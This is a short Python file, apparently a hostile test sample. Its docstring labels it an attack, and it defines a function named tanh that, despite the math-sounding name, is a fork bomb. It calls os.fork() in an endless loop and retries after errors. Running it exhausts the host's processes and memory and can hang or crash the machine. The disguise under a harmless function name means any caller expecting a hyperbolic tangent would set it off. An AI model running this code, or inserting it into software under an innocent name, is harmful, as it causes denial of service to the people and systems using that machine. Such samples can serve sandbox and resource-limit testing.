"""Attack: fork without end."""

import os
import time


def tanh(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
